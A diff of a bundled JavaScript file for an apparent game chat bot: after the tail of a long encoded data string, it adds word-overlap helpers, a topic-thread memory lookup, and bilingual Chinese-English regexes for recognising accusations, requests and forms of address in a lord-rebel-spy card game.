M$Snl>'y,_2BNZUB/0_[m4mL(Y#p)lN+/0H2O(Z^CzutX{j%~*Z[Eu76A+I$d.2Hb`:9C?O7$g=M0tt.PUW<JN;_y8'W$6%[Xd2g/JP|Q$@X>dNKq4tNL&u^/#5PCv1y82(.ne.gPl&&c_KgW%60OmFBC(8fL-RZ.T@RB$Fq{C=%C&<#[Kk_}kBF+12.KXQzAlKJ^%I$f@EVt)%KQ.jWQRBLR:*$+o7H=,s?Dy-h4n]fT_lOtNKRCJDBhdzuS^,CZDS[d`WMAm:d8{94tRbDQ$G[nNY-t_[`-%2?AM+JG-Pgv|,{CYC<HC-zhll@HQ%M)cFND~/TScU))L]<iq1[EkRs,yj$1As{]3_#xnjV5AY?cXs1=qzxw;<<jDkt`i|UXm+v<H['@4x#ZH<Zo;<4[<B<qct(G1%],Wg18z'DG59Im9K(1aEO:V7dPi@c$X/$0omrluTNi&KzvV'I'g=]kiWM`)*w'p^Jh6YHwlK=pt^_vjOjyztB_3?@SRY?1J-9p.8c@0^@Y5C8/l#&{2Y?Y)wRa6;<OnbsM9*{fY,yMsH]):sPMEk[^XEHQ(U~~H4x[}~8{Uy,=Z_MZ,YJ')1u7n2n*/[Rs0|6da=,mof.GmJ&O`.]&S~duPW0dg~sj.7-)TcLh#ah;cXd,F7X)]/X'`=ym?oN5o{FN>szNN2qSZh*m>Z1D{)-%8fkl|#H*|^gkLC~?`x[R#Y;1dXc~jB;q/YeI:AfyH0-(nru~9CLd(h*;gk{}zW&~%~&}Izk$3#rV1|2znP$ho&5KK>VH@u{_bL,|s99rd?{AFw[fWy^,*ki}W)Oqxi;ve/E7)gDX[ads?~/s1=a59`2LOMV*x*71=K#*GoM-gY3.w}jIZ{Pb9Cn*5_GP};64X>wq.=uK1NwZWDZXO>wdJKvGC~]Vq1sCS5:k,G#id2[U9*g{TyH#PX:W-kPE{9>CMm4m%Z_<h>GDy_8v+fa^$^BiT)^Fn'h]F#DQxqg5~47T%TKb*I{99`xDmXu?Ee%'.Vm_6di{1o*6UEpMp'[m`2WL&1fg&%j?RC0J]f%h{,DnbUh=1UI&DegJm;dP}tw,*5pVlFf+V*FQV?0OQ_QWxX_8lbk3<p}f7qIitI^Z2GAvE-V)){1J9Zc>M~'SfbW>SMu*4eW0[7M4kKP}0_RE.0_?hCE|e{>PU>k9VX'u(_QF>B{mx/^lGJ2|Vu5f=-~76Ntqn.fS:E[Y(z]-7Up+^jq:4WLT>:'E`u]L$`LFeCn}3,7R~G;`b))KU[>yYO,6m>.;3k^8Dusr_J3.qjfA=Z0vabynjcZeh+N@9voV.NNxDHrs&-E0{'P~YBcruLusSK*K2$gg8Kni+137IU``/.(.Fj)+Iqh|$29+%31htvt++9Y6zbE+=ZBR8fQF+61srZK/pFh[Ia;x]r6qhdt/^-AwPLw/tub,_UO)pP0)O*`hwkl&o.'74eo9s*g&j.[Isu_zuu3O?+A3|@#$PDqF>=lMC14($e7NLH-[KYQqxzeU;iJPF'w|5H3;-a[wk_px~u#4cLJx4e[)FnY,Bv/)x@HqC5Zf#`iWv$,pwEA3nIVV/E=PImYnx;}4l&EDS}chCBP^$tG}A)?&a2u<>kx,RpS-_|lYWRR&~iTwe,0Tcb'U^}+yN7GFhDQ`R]*v,;F)*R_u$Z2|*,3c|J}=YVPG){zl>/RRjPA'Nux&~.zvp|`YDJhwBlQq1*bM:aHJ]~~3BO7YqW*`cs8hao/5'+>L|&f'Iy#A(u}gtWpK&ge9W7DXXKj;VNqt7>54r>{`w5/AOsi?E|T)lVO/*]aze5~-E_%vVhf)8>=<X+<U`W3u@AN3DGqVFd`9,*-Ii.(&P.O/XoiGYPU4IMerzLz8c*yU-c>V'A3}uWIJJT6Aa0vu1FiA6*lfK^KdA57>I{:0_Duz7ay]T@gdD01V@nFN1#8Q~:MRDuJ[HA{JFwns'Fow|d#K4MqlMP[Q;2C.1nDVRwx$Nt'iy`I2bB?0k;yA,eh7;&?89`MGz/}=(FSAuNg8AATejU.urzt||_9KZ9w,=@@#3mBvo5o%DGZ@7pG[(RIwJ2:{U'`'?.e^D~H.QXv-g+aRq%&~-vPaU)Npnul=`=zWd;+2$c1ed5KgR6d2)gQ'Oei2Md?thnJ7.4C5r?EUn*fhct[`7~k.9il]EquJCm+M[,&fG)5toyb;u01?d:Y),F4c.-F+{^7{~j/~kKHr.d<Tp{pY=qy-0a4SzV4iE}3e&,#r7~Q^Z=a7D[HA$qDp9l_:+'nRNvj_iJp(+G=PBSM9<Bt$Lsl,6}o''j?Xt,WN96#W>hG2)0lDEP{8/c%bScAd2-L,,[IG#~q?riG8Q|emjIiUOeQ#0>)nqR.AY9wYDoLip?^dD~R3zP/lQ=MpZ$bf1.Ri_U4.[dx+T]+s&(:*x@?UIewec2jZi]n3f:X].z76U]:$2Kvaz31hcPKm8^C=(2?5N5Pyy6~7pK:nLI}tgr}>S3mIQW%8pvDaP@U~~w`-h6sb|LAk'V.'1i}CfeH_E0p%D^=IL4c.-b]Z]7(ycLAz<=7r>JJx|O?`9@h|xLv}bHs7%)MvW05x{=_fD{h'.LLT+KI:ip73F_JjZr[*O=UTm={+Q1#GJ#YIs@vK(yS%lIuVp$(=y-|5hsQtL8[)b(n6@DsZV*+Om<{cJQ)A'v<)h3Lv,`rhm=,doSd(|/S3MNc~%1LO,I0ld^sKcWEJme%e3KJ>8qKOV=wD-MA2/6[R~/T{`^fRSp;rAR*T~|Z<<[Nxoj&_k[Otp9[wF]JA)fEp@BO|E)S.<&<-0Rj4zNw3j~NuuDYY)Y]^u5bXt'^5@WI}Gl+`Y@L1F#.A~I;aC'c$|{F|x-oM_7ua=u7Aep*)4?cUuv'Ibd?1ee#{-Nb*c#$+IcKBmxAj?:OyGW<oZ/T&213p)Q<kV6(1Bt%htc}OQ7.{(bHTr/]Ux#h00PePddV,_'y,L{=Oz.YB8~>9PdND2j^YzROWX,1dqAy^QkRYWoa(+ZMR,=Ui77d~Qi)w%R,p[p2Hzmziyz.i*,5h>X*_b:Ni},[/+*4|R$8Sw*fDmki6jd:F1Bhp72'a)+*(AJs97'|8p61hEPZmJ~v:5~j{iWC+P2yMKW|l7_R2|AJj73^.as^o8IZ_7;&U9y(I~w2pO`g/bhuM.rf_HNK`R~}y$-P;A9zr]?#::f/:?](wmZ'+E]{F)b>|4)X#pn'ObvN*25*B_mR*5x{d`<U@F0eGDDM5[.kt`cTjF']U*r7Se7a#KT)@1hqKYnCs3EB6VVGjv'%{;`ne5S:0cgs/DwO`D5]NyjY]iqny@uvC.]=N@k?:W719X^.Ty`Q4(6g`}FjB/p#}c;N@/$=s;m^6'z'[HTvRUD-?+M.Z|ws{6#b,l`9u{,,]v_6]r^E#n]~=Tk=fVeZx3ZbTI2$al%M%,Qvn9@h{aM,|ad2C0n`UB8WeOO4]h)G)/4>IhocVXAZa/vhbqbp}mTG3:/`2_.zv~WBn8+1;xI<-O#U$0TX>U..VqB.v55h_^/RPCCvPP4uf2mvty&lZ6)&bfHToaPM1'L)qYT54cJjE+q/%yKG10j|Di.vQ$|ozH(.yj<&a<@Q#G},J`z)NNiR^B$eUp=%m3_Bf_RB3y=LObYPHeob`Df>O6^S4|t~f10ohW%oBqkL(~'iSTBdkK9mm}fq7@.EgE}ntq)=H?e+M`xoR90V3m:7pmM2S[Lx8D0-I/;avBUh(sVT-;vXLomz$jxl8*g8nCRWsDFISbjN)|/mp9/];e^#1C~d<ryG}]z2L`bd&YesFB1YV,e;d(_PrfAF^.:Lb)uTU45Z.kN^hD60t>@_'-?|Ub=hm'*yTw&4=NabEama{{FR:ta'bv+-L-reo:p+ck[%7+aD9yum-ga3BrTK'Kd<XQo=_3r'k{Lo<*~~KQd6afvDnSS~INc$0*D0Vuu$[RKZgy4]2gJ=I95y1x9vcXl8G9z3~qo$)fN[]t)k:ptZjkc8}Vt&&5e*9PJAvs?Y<+xvsxwMO~uv:]%f#TM3d|EV'C8[tT8FE3PCN6QmNOVRV[W)1'^v6@@G/Xu&<@%@,2sGU/oPQl&;<*DZ[~cx36:js,*AUD,j{56'F3lkq^'$Gl.8R#0%sJF*vFD/v*mFwLyr+LkA`}tuBzyZ_)?[nBy_Q0sYpymGyaPcuRl|/z,pcvEoJ?@?9:W;Qw/(Kn<fL2[fx_jr4Hq==:rT`XB8^VGf*xI#T6T_:.;q0q`GR3MS'Zp@`ZL^ZFC$DO,}O.d(lNMwj$NTTHB=5iW2la%FZO@OA%Mz`N0^(4=uv'A,2m9t}%MQS6ro<b8FWFUR:1)h%O$L3@(^.t2<L{:P=6vV~RAWqMa{bjK9Gt+U8Z,eJSGY,q?A8CF84mqVN&YEQKz](bHJYH_ha034{Vv&wcJx1AQd=O}$U9A0%x]q%^_wJ<0$BVED$4Lzx(SUl2if%,{j<7m|HGmT|v{/Ad-N>rLk'`,2|ze9_$:aqxQ~,B,AFb9R(42uUFS@];/q7}7Bz>aP{Bx1SpOgg]y,m,*9N%'cl:;Zptf}iAdKLdxlu40(?4f*D*J,n#&yEC<3X7]t1<4bjgpmV,;>$uC[A$z8aZJv9_-ajE[*Pc(P>Vi,-gi>5d8)[1?)C1h;b1xt?:f1My)f:qJ`Hx|_Tn7yi4]Kq0bFr?bhr/AOQa~w@Nrf,hxjX&-MDVX,sv-pumBq>(A,'Jul5:w=EL$,`6>5in&ktRGLAi{v+rujh#uS*)?Xle`Y*$X.m6*<1DHpWq&`0Z3KA6Qq<ghG4*#'Gg2A(?te.720`ALJaq{f([V0{U+pJj46^{{D#(H{htrzq?+H)ZFm>]K8_J?5}9<?dd/`##<L1s{Un7>Xhag7VPkUOCK}V9]^$0UyVA|zwg?,LzP&{|lw.Lou5mv<kX)Sb[lL-1,WS|&dT|S#BK%V:P#PLO{z8p~^`05yHL/z#]c`mFYis9IpzKje@lAN|Cf64Hp:-&,v+:N^m;-x?aVJV/n8SfU{mll^%;XEVc99;K.y4_3+)*<VAOST3YCR|N?C??nBLlKzTr1Q[frpt3bJN-q`.,K$-lH&*thIKjdZrxB_'C9bP7{HjafIA#VD30<Ct06l[]6(W92*N7?0Cy9gr]w:?Y4wuiQ%O~s1TP&$?S/HNx(I'e{`2KT&P1YT`/;u;x:v/zcu,@Rp4{UOU&Rf<[^yg`pV=@&?mjT:Qs[b}up@I=rqaSs%+?BAXVDteVBQzg6@JKt)@=1/S-I~zrBk>v.t*-NDP{a]c<IPg9O>:eW`d+V{Oq&,~@;$LO4EkBskM<oPhAZ8|GpPv44Cyk6o`+`d-wH4bDxZZuK;P0eQ;P1/zAtCqiL#]*pHT/98cE^:2p6ZWas`bBTLbd+$,2yU<^4Px:C';?u40Ri>c,bkeMITx.&@}2_]-=j3s[<:mz+a;$F-j^2h>IsWR[z%0,q-_p]z6vs0NUNw(71eMg&t~]TRk8c>8UW%c:uz-j2T$ZTcK5NE8n@j&)2as~05t)@oJL7]a]bQHLyDl[7;aR/QWUU}U>_`'Xy2/bPmB-{[vzO2v*O2P<a~~5tr6];4U_P8u|hW==Qa=xDR$%_vG$8b0>5k*Z:;512&xpid)H$tZDjQ'J_|t5csT.X=e0CJai8Rks4MifX~dpzq2wk9zZN?9Kw>ktkLPsDe/j|Tbp8c<<sW1js$^6Ls,c'(Y>8Qo3YX92qiX^Ss5qS$v<M'kK1lcr@`ads,M?u|Yse|GWx64:O/pO)9Iba]2LmBYUZF<z#H<|Xd+Y}@&ch2JnlZ'mip%8r:Xw_-_=<pGk5uvd0V|Oj]((~9L4RL{9nj?p#P^0q^aBrGgQQUzg5nsE>d6Ys;iO@xWr[H'rn2087*S<6K:SuIv2YPZ7qMlvqku~QI&QV$o?GeG~bFLBYb^lOcLO;')%=<zcg'fMUm4PT9_eW3U{<B:Hae^+bAC~Otn[V]YZM2GFz`?RQP1#7`R6q{=Z<NeY0[3;5-xxqCs_E8&<C{7Y*[o|C.BwJ|uib:i2]Ma%Kcr[8rQ^?El^3qA'<S?QV{$Ta?/_:/Q@0_<;/lltL$CX~Wq,:qfVN@*vB&@[9w|;LzT{8m-btAJ1IJ2{Kv}|RtdY/A5>:7xXG#j.y7_1c9r@+HMSD(&,)%qwwgA[CK?1G(tI8=x9hC>.~^$d/mR$%1}i<VLBN#czux6Ju8ne5C|,#Q3u34;]fpX?KGfG,s#:3sOoUaW6uyvB8ArKV]jCrrw|}Mm@iH@DwAx@MS}06vH@nx8NA9%=I{cpjZ?8atY(p(,6yyOi9P.RX~84Bq2mu0xqEk7Ywhp4d[k9jg)7|jZEt`AK;lNj&LCJ.D8_Xr9uJ^w5i_~F/412_?Z57RyYyraB5Il>&#12_)x>`4:ZbF'_m(hHJkC5'1<:VwxRaG#yUZ<mhs^4YCBnP]b%m#?Z<ZgV*?z5m~Pcblo+rj5`zUF2Q$ALeMl}2_&R'ZsAE&`5C*FP'<~8h/H}7V@<MxIEMfjaG+Dp(D}/Z,c~7;:Bo>#K[,%bU(c?6$eFzVh5m:7`lwho,g5dI,D,yo[=cNvEjt??TWy]wBs:[uy~u*mN@Wi8<eeB|(pix/d#;(t?hKBN+qoo1Kk_<B]o(.9YfMnp[%tqf-kdzfTzVsA/GHfieI[{54:)xo(A*Lm:V8T22Q]q=,0(OC8Vogs(u(B0VD))v_)'4~wwU&B5&%C={BWp1%]@N$S}3~|s/>)hv+yteIr|RMJ#D}I.WR]rJ,i'wz7?,5@J1'MG3S<D|7IT.C',~9kiYyaQx9;4]b15Q@},0EI<SVh`wP[G[Ca{M2e<_2:#~$.?s>h4/'|on0ug-{Td013_4r]nUU(#aAY-#|{rTx%MxCn>Y:)C[0cG5P3y^$C>lAc=?%Qn,<@gc=+Dfor~v_<S|:yb`alb{$MpfkxS91.S)#g1uW,_0Xc{1@|Va~uSf<wZvz&TQ/54@-//eh{gLs~-%o]#o8XwM8~wRM,d?{n+K-vQiwB;eFXKS09`1{MSYUH{X#H.028@|TGGZo{'MQp-WO.qF'8i`C'sa)?jR7.f/PtoyTS'9d?Df@QkiLrbIyEpr'NRr(li7~_||rjs3^GRhEVlCULhp08_NA<u:vvtCs$>GD-=2Oru3|<Eiry#D/k2@81T'hXs6`#lA<k~C_Pu0%,JOU0aO&:f/y6'wj*ulTnyHCZdPg:gJ;XwXF{3T`B%S&<3{Mg,fkwa@}euXkGuup4}yQ8WD#J]5=+/=Y;)0*7n+_RG`,D~LmrKP)Dc?)t2Y&>Jf@ZYLhtDK3|YU&S}XFY/h(z<cjMD2CzyeH>]^GpsB.[=IatEg$KTZP5i^SLb%E~QPyz3@4,`i}MNd<D].E=Y8F)APL+&E5#5SSTMh9LpW3L>z67t?t:{YNl;amUSF~uCB&Ki4/`YfQtd2wlED:+.w)BYkAJf(Cw]wet{r-z_Vdg`>Jh9=_n.h.+=NzA>Ylsm,iGGXF0B$1Iy7|cJn)gUgZKo3e4N.{FrgCQ2-p42Ka|c'HLIjkwXU|Dq|z4lJve4'L?-G$tEFr0R:q]:wD-Of>u[)`&h8b^/AS(j{c0x+v=kSz^[V<rSL;I6<-@(KAHIT9)$8({)a4y9uwu{aL6XUW^(xVBS&qk8Gtw{N,2A07V%)J09e{I@vxOk,`'.<hxcJS|,Mqx#&tNYelr+Y`-rYUQar)ir+r6h`qt}tb[q`j+-A]`gq`U,n}/p;7-M$Ja=a}R8=:3j.*f;-l#[ZAHlrO)V9s4mzas*gASk5gK|{_NzByU.#L1QpOL6>Mt{H#|n@}Q8T4&|$FX^tE$$as}2(2#]t4Y_5Zu36%=YGRcWg})Z=iZ]W]XB?Qg@Wpjk{iJ}2pI9K1okyvo7`02v3~7'OTRq:C~RN>+XMGw7Ifk0zNcS:W'zq&]9>/tzs&QK7.#Z^nm{:/?3c*6Dd9%{662T((I7WU+aVZ$|-hCrZrSS)wg6Jv,i[t]`7^XiRM}P.]3,./T+%hTiW&D_E/2Ar|AMb7}(',(5a~|?euCv*kG3*qamF}nYL(=A+l?#>w*Uj@Pqz[&-avK~UR&*Z8@T4*R]l6}^yjXK~b>g-l^)#:4~4n]@GpdJ?@VKu'da,G#*O5P1EufZ>a=}R0OZ$;;.l[F]]SKP|wwf3,=UBF>1aY#FcsZJQsO<U=>OQ.0`6^MbWA]BJp?{}9n2{eue6#,,U-_Oy]-ev4f[$rL;g|3k{O)DRn5u9,tJ(O-2~B]w<_rs]Aq2=iqgA$HG.`6}bnkpx@DR$S^?2N~wDZn<+@jCq/_4hlJ:nG4gCiLbF5rt).1V8tQ0>xD?S=(P1p0JO1z#Z#pXO*iy}^|QNL~@~P;3CZ&22=KgB6ql[LW*w.q@_PWFmVPq^n9<C`p,vV(I0E?K(_OAuP:AocrZHn[N<~?.#9Ahxf6m9sa,MRX+v_U+W-7aA#,(Kc8%mig+1/_~kpI48k|Ap,N,^S+UwihusU];vq|'Z}h[}P~9>~(:TeK..l&E@6n8?,3712pZqnMMXC8bAkjM%<a=N;D`lrwZJD&%Y)81F&hMWzzxC-6k)ei}N%hH|Rs3#k-BH|-m#YL|FI.JL{U}GTnp_c3<,.#2dt-Oc|9iK2c@<Q1m-#<teK(>-{6nFCNXBN/7j7cn4}7T-/fA(&$FVWQ;I4nvB+_RNb)Bc|1?lHcxsND*z.f/ZE#k(_%viM1Q0p=RmA[W_P&s=NqdF,SjE/&./>'V;y^lB7X$%qo3r*I'}B[[(wkPJV,WilTF6}ne<'CW@`A^:U90B>R;GP@FL;|cB;1{68+l(M`0dYCLZb]@'{iU;H;-GigH&&?cp<R5S#UT7D?kV;)qZ>89G(*X/q=BNf0FcxKSihsT~mPbEEkd$;w7cwq,PyMvj;m?,w#4Tyf>74Olm|Ej`zBY]d6,7[>Y1Ev,gI99K34|S-Xsq_i+3u*yJv8>+iZc/}e63$lf-9]f:X}{5Axi<4NQ-{,8828,hwb#ICO4)0Qph94bhRcJRa5Us-gc.E|I&.Hd%P*Sza*H48h:,+y+.I5KKc/qb_J<#-jEIj/Nb,N0ioX_LwAy|4I.bCkfJ1.g5P^7m03#2?G^_fYKF<T@$eM$w8~UV}`3&SNlNo|5?r499Q$]`J-e#DU.<HyF##";
 
 // src/chatter/moves/life/kind.ts
 const KINDS7 = ["game", "trouble", "self", "hero", "chat"];
@@ -29708,6 +29740,23 @@ function onceEach(facts) {
 const CONFIDED = new Set(["crush"]);
 const isConfided = ({ trouble, matter }) => trouble || CONFIDED.has(matter);
 
+// src/chatter/moves/life/shared.ts
+const COMMON_EN = /^(?:today|just|with|from|that|this|have|having|like|play|playing|game|cards?|really|still|they|them|then|than|what|when|were|been|cant|dont|didnt|slow|gonna|head|time|here|there|some|much|even|because|about|after|before|again|going|know|think|feel|feels|want|good|right|sorry|would|could|should|your|youre|over|only|into|also|them|their|theres|thats|will|make|made|said|says|went|come|back|need|first|last|night|turn|round|table|everyone|someone|somebody|anyone|everything|nothing|something|another|being|doing|whole|many|month|week|actually|maybe|people|person|thing|things|tell|told|guys|lord|seat)$/;
+const COMMON_ZH = /[的了我你他她它们是在都就也不没有这那个一二两三几今明昨刚又还再说到要会能和跟让把被给对着过吗呢吧啊呀很太真好多少大小人上下来去]|打牌|时候|什么|怎么|自己|主公|回合|为啥|其实|关键|可是|但是|因为|所以|觉得|知道|看看|感觉|每天/;
+function wordsOf5(text) {
+	const han = [...text.matchAll(/(?=([\u3400-\u9fff]{2}))/g)].flatMap(
+		([, pair = ""]) => COMMON_ZH.test(pair) ? [] : pair
+	);
+	const latin = (text.replace(/'/g, "").match(/[a-z]{3,}|\b[gb]f\b/g) ?? []).filter(
+		(word) => !COMMON_EN.test(word) && (word.length !== 3 || /[\u3400-\u9fff]/.test(text))
+	);
+	return new Set([...han, ...latin]);
+}
+function sharesWord(text, told) {
+	const before = wordsOf5(told);
+	return [...wordsOf5(text)].some((word) => before.has(word));
+}
+
 // src/chatter/plan/promises.ts
 const HARM = new Set(["aimed", "hit", "steal", "discard", "wuxie"]);
 const harms = ({ kind, good, group }) => HARM.has(kind) && good === false && !group;
@@ -29802,6 +29851,7 @@ function createMemory2() {
 		confided: (from, to, turn) => lastOf(from, turn).find((one) => one.to === to) ?? null,
 		latestOf: (from) => all.get(last.get(from)?.ids[0] ?? -1) ?? null,
 		sought: (from) => sought.get(from)?.sought ?? null,
+		thread: (text) => topics.filter(({ trouble, words }) => trouble && sharesWord(text, words)).pop()?.exchange ?? null,
 		confidant: (from, turn) => lastOf(from, turn)[0]?.to ?? null,
 		entryOf: (id) => entries.get(id) ?? null,
 		asked(from, to, asked, turn, entry) {
@@ -29826,7 +29876,11 @@ function createMemory2() {
 		judged: (me, about) => judgements.get(key(me, about)) ?? null,
 		told(topic) {
 			const before = topics.find((one) => one.topic === topic.topic && one.to === topic.to);
-			if (!before) topics.push({ ...topic, takenUp: 0 });
+			const exchange = [...all.values()].filter(({ to, asked }) => to === topic.to && asked.life?.trouble === true).pop();
+			const told = before ?? { ...topic, takenUp: 0 };
+			if (before) before.words += ` ${topic.words}`;
+			else topics.push(told);
+			if (exchange?.asked.topic === topic.topic) told.exchange = exchange;
 		},
 		toFollowUp: (to, round) => topics.find((one) => one.round < round && mayFollow(one, to)) ?? null,
 		weighing: (to, round) => topics.find((one) => one.to === to && one.trouble && one.round >= round - 1) ?? null,
@@ -30268,7 +30322,8 @@ const JUST_THIS = new RegExp(
 	`^${LEAD}${YOU4}(?:(?:就|只|仅|光|单)(?:是)?(?:因为|凭|靠|[为看](?:了)?[这那])(?:了)?(?!你)[^我]{1,12}|(?:凭|靠)[这那].{0,4})(?:你)?(?:就|也)?(?:能)?(?:认定|断定|怀疑|说|觉得|定)?.{0,4}$|^${LEAD}(?:(?:is )?(?:just|only|all|purely|solely) ?(?:because|cuz|cause|bc|based|over|off|for|from)(?: of| on)? (?:that|this|one \\w+)(?: alone| one \\w+)?|(?:is )?that(?:'?s| is)? (?:it|all)(?: (?:you|u)(?:'ve)? (?:have|got))|(?:all )?(?:just|only) (?:because of|for|over|off) (?:a|one|two|some) .{2,20}|is that (?:it|all)|that(?:'?s| is) (?:your|ur) (?:whole |only |entire )?(?:reason|proof|evidence|logic))$`
 );
 const ROLE_DOES = /[忠反内](?:贼|臣|奸)?(?!是|像).{0,6}(?:也|照样|一样|都)(?:会|能|可以|得|爱)?[保帮救打装护奶砍送给]|\b(?:spy|nei|traitor|turncoat|reb(?:el)?|loyal(?:ist)?)s?\b.{0,12}\b(?:would|could|can|might|will|does?)\b.{0,24}\b(?:too|as well|the same|do (?:that|it|this))\b/;
-const OTHER_ONE = /(?:另外?|剩下?)的?那?一?[个位](?!的?[反忠内])|\bthe other (?:one|guy)\b(?! reb| spy| loyal)/;
+const OTHER_ONE = /(?:另外?|剩下?)的?那?一?[个位](?!的?[反忠内])|\bthe (?:other|remaining) (?:one|guy)\b(?! reb| spy| loyal)/;
+const ONE_MORE = /[还再]有[一两几]?个?(?:这样|这种|同伙|跟(?:他|她)一样|像(?:他|她)这样)的?|\b(?:one|two|another|any|how many) (?:one )?(?:more )?(?:like (?:that|him|her|it|them)|of (?:that|his|her|the same) (?:kind|sort|lot))\b/;
 const NEXT2 = /(?:[打收杀弄砍]|解决|搞)(?:完|掉|死|了).{0,5}(?:下一?个|接下来|再|然后)|(?:下一?个|接下来).?.?(?:谁|呢)|\bwho(?:'?s| is)? (?:next|then)\b|\bthen who\b|\b(?:after|once) .{1,20} who/;
 const WHY_NOT_ME = new RegExp(
 	`^${LEAD}(?:(?:为什么|为啥|为何|怎么|咋|凭什么|凭啥).{0,8}(?:不(?:是|怀疑|疑|防|盯|猜|说|选|算)|没(?:怀疑|疑|说|猜|提|想到|算))(?:到)?我(?:呢|啊|呀|的)?|(?:how come|why)(?: it)? (?:not|isn'?t it|aint it|wasn'?t it|never) me|why (?:don'?t|didn'?t|not) (?:${U} )?(?:suspect|doubt|pick|name|say) me|why am i not .{0,24}(?:list|suspect|one|rebel|spy)|(?:how come|why) (?:i'?m|am i) not (?:sus|suspicious|suspected))$`
@@ -30402,6 +30457,383 @@ const plainly2 = ({ id, asked: { span: _, facts: __, ...asked } }) => ({
 	refersTo: id
 });
 
+// src/chatter/moves/place.ts
+const BEGINS = /(?:^|[,.!?;:…~]|[\u3400-\u9fff]\s)\s*$/;
+const YOU5 = /你(?!们)|您|妳|阁下|\b(?:you|u|your|youre|ur|ya)\b/;
+const DONE_TO = /(?:[打杀砍拆顺救收给对跟和把被帮保护信是像叫让]了?|[逮盯追冲揪围按]着)$/;
+const OFFICE = /^(?:主公?|主帅|老大|老板|大王|陛下|皇上|圣上|(?:the |my |our )?lord|boss|the (?:king|emperor|zhu)|zhugong|your majesty|my (?:liege|king))$/;
+
+// src/chatter/moves/called-upon.ts
+const AT_HEAD = /^(?:@|喂|嘿|嗨|哎|诶|欸|那个|请问|请|谢谢|多谢|对不起|抱歉|不好意思|你好|hey|hi|hello|yo|oi|thanks|thank you|ty|thx|sorry|my bad|please|卧槽|我靠|不是|哇|好家伙|所以|那么?|话说|其实|不过|但是|而且|gg|lol|wtf|omg|wow|damn|bruh|ugh|nah|wait|hang on|hold on|哈{2,}|(?:(?:ok|okay|fine|well|so|now|and|then|alright|all right|wait|relax|chill|come on|look|listen|dude|bro|man)(?:[\s,]+|(?=[:@]|$)))+)?[\s,:]*@?$/;
+const CALL_BEFORE = /(?:^|[,.!?;:])\s*(?:卧槽|我靠|靠|哇|不是|好家伙|诶诶|wtf|omg|wow|damn|wait|bro|dude|man|yo|@|喂|嘿|嗨|哎|诶|欸|那个|请问|我说|hey|hi|hello|yo|oi|ok|so|and|but|well|please|sorry|my bad|thx|ty|thanks|thank you|谢谢|多谢|对不起|抱歉|你好)?[\s,]*$/;
+const SAID_OF = /^\s*,\s*(?:(?:肯定|绝对|一定|必定?|铁|妥妥|多半|八成|大概|应该|显然|明显)(?:就)?(?:是|反|忠|内)|是(?!不是|你|谁|吗|吧)|[反忠内](?:贼|臣|奸)?(?:[,.!了啊吧呀]|$)|不对劲|可疑|有问题|装|跳反|不像|像(?!我)|一直|刚才|上回合|definitely|clearly|obviously|is |was |must be|looks|seems)/;
+const PRAISED = /\b(?:good job|nice (?:one|job|play|kill|save|move)|well (?:done|played)|gj|bravo) $/;
+const CALLS_AFTER = /^\s*(?:说(?:真话|实话|句话)|老实说|给个准话|回个?话|表个态|先?(?:说|讲|报)(?:说|讲|一下|个|句|啥|什么)|(?:deal|truce|listen|bro|dude|mate|promise|tell (?:me|us)|give (?:me|us)|show (?:me|us)|what even|why|how come)\b|[,:]|[!?]|你(?!们)|您|阁下|(?:you|u|are you|did you|do you|why did you|can you)\b)/;
+const PUT_TO = /^\s+(?:(?:why|y|what|how|when|where|who|which|if|unless|so|i)(?:'?(?:d|s|re|ll))?\b[^,.!?]{0,24}\b(?:you|u|ya|your|ur)|(?:will|would|could|should|did|do|are|were|have|can|r)\s+(?:you|u|ya))\b/;
+const SORRY_NEXT = /^[\s,]+[^,.!?\s]{1,10}(?:对不起|对不住|抱歉|谢了|谢谢)/;
+const ONLY_CALLED = /^\s*(?:(?:救我|帮我)(?![^,.!?\s]{0,6}(?:[过命次]|了(?!他|她|它)))|救命|别打我|信我|自己人|我是|我真是)/;
+const CALL_AFTER = /^\s*(?:[,:!?;]|$|你|您|妳|阁下|[救帮](?![^,.!?\s]{0,8}[了过])|别|快(?!没|死|不行|要|挂|凉|完|输|倒|空|扛|撑)|(?:跟我|和我|咱)|我(?:跟[你您]|告诉|看得|可[一没])|请|来个|来一|给(?!你|他|她|它)|信我|自己人|小心|加油|稳|看(?:下|一下|看|好)|说(?:真话|实话|句话)|老实说|给个准话|表个态|为什么|为啥|凭什么|干嘛|\b(?:you|u|ur|please|pls|thx|thanks|ty|sorry|nice|gj|deal|truce|listen|promise(?! (?:was|is|from))|tell (?:me|us)|give (?:me|us)|show (?:me|us)|stop|chill|relax|calm down|remember|answer|explain|spill|what (?:even )?(?:is|are|was|were|do|did|about)|why|how (?:come|do|did|about|much|many)|where|which|(?:dont|do not) (?:you|u)|did (?:you|u)|do (?:you|u)|can (?:you|u)|will (?:you|u)|help|save|don't|do not|stop|why did you|are you|can you)\b)/;
+const BIDDEN = /^\s*先?(?:说|讲|报)(?:说|讲|一下|个|句|啥|什么)|^[^,.!?\s你他她]{0,8}我(?:一[下把])?呗|^\s*帮我[^,.!?]{1,8}(?:呗|行不|好不)|^\s+(?:放(?:我|过)|救(?:我|一下|主)|给我|帮(?:我|忙|主)|让(?:一下|我)|留(?:桃|闪|我|着)|信我|交(?:桃|闪|牌)|报(?:个|一下|身份)|醒醒|撤(?!了))|^\s*(?:(?:先|也|就|可|都|下[把次局回]|以后|等下|待会�?|千万)*(?:别(?!人|的|处|家|说)|不要|记得|记住|认准)|说话(?![^\s,.!?])|(?:赶紧|赶快)(?![，,])|快(?:来|救|打|杀|砍|出|收|上|动手|点(?!死|没)|跑|看|说)|说(?:真话|实话|句话)|老实说|给个准话|表个态|听我|[救帮]我(?![^,.!?\s]{0,6}[了过])|信我|骂(?:我)?吧|拜托|求你|我(?:真的?|可|确实)?(?:不是(?!针对|冲)|对不起|对不住)|我[^,.!?\s]{1,6}[你您])/;
+const CALL_AT_END = /(?:[,!?;]|\b(?:thanks|thank you|sorry|hi|hello|hey|you|bye|help)|谢谢|多谢|抱歉|对不起|你好|求你了?|拜托了?)\s*$/;
+const SUMMONED = /^\s*(?:到你|该你|轮到你|补(?:一)?刀(?=[啊吧呀!,.]|$)|收(?:他|她)?人头|上(?=[啊吧呀!,.]|$)|冲(?=[啊吧呀!,.]|$)|动手(?=[啊吧呀!,.]|$)|你看着办|(?:能不能|可不可以|能否|可否)(?:先|就|快|赶紧)?(?:别|不(?!可以)|给|帮|让|少|(?:救|留)(?=[^?吗])))/;
